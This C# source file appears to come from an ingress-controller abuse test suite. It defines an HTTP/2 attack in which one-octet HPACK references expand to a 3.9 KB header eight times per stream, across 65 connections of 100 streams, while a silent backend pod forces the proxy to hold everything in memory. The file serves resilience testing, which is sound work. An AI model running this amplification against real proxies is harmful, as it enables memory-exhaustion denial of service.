using IngressController.Load.Abuse.Tools;

namespace IngressController.Load.Abuse.Attacks;

/// <summary>One octet of HTTP/2 stands for a header of 3.9 KB, eight times a request; pods never answer, so all of it is kept.</summary>
sealed class HeaderReferences() : Attack("header-references", "S12", "65 HTTP/2 connections, 100 streams each, 8 references to a header of 3.9 KB a stream")
{
    const int Connections = 65;
    const int Streams = 100;
    const int ReferencesEach = 8;
    const int Length = 3900;
    const uint Window = 65535;

    public override async Task RunAsync(AttackPlace place, CancellationToken end)
    {
        var host = await place.ServeAsync("references", EvilPod.SilentAsync, end);
        byte[] first = [.. RawHttp2.Pseudo(host, "/"), .. RawHttp2.Kept("x-big", new string('h', Length)), .. References(ReferencesEach - 1)];
        byte[] other = [.. RawHttp2.Pseudo(host, "/"), .. References(ReferencesEach)];
        await Crowd.RunAsync(Connections, place.Tally, async (_, stop) =>
        {
            await using var connection = new RawHttp2(await place.ConnectAsync(place.Ports.Http, stop));
            await connection.BeginAsync(Window, stop);
            await connection.RequestAsync(first, false, stop);
            for (var i = 1; i < Streams; i++)
                await connection.RequestAsync(other, false, stop);
            place.Tally.Add("requests", Streams);
            await connection.ReadAsync(place.Tally, () => connection.RequestAsync(other, false, stop), stop);
        }, end);
    }

    static IEnumerable<byte> References(int count) => Enumerable.Repeat(RawHttp2.Newest, count);
}
